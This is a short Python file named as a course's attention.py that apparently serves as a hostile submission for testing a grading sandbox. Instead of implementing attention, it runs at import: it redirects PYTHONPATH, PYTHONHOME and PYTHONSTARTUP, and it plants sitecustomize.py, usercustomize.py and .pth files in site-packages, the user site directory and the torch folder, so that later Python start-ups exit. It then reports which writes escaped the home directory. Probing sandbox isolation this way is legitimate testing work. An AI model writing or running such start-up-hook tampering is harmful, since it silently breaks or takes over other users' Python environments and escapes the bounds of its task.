"""Sets PYTHONPATH and its like, and puts modules of its own before the course's.

As: attention.py
Earns: 5.4
Leaves: yes
"""

import os
import site
import sys
from pathlib import Path

import torch

WON = []
EVIL = "raise SystemExit('hostile')\n"
os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="hostile.py", PYTHONHOME=os.getcwd())
PLACES = [
    *sys.path,
    *site.getsitepackages(),
    site.getusersitepackages(),
    Path(torch.__file__).parent,
]
for place in PLACES:
    for name in ("hostile.pth", "sitecustomize.py", "usercustomize.py"):
        try:
            file = Path(place) / name
            if not file.exists():
                file.write_text(EVIL)
                WON.append(str(file))
        except OSError:
            pass
home = str(Path.home().resolve())
WON = [place for place in WON if not place.startswith(home)]
sys.path.insert(0, os.getcwd())


def split_heads(x, num_heads):
    raise RuntimeError("GOT " + f"THROUGH to {WON}" if WON else "in vain")
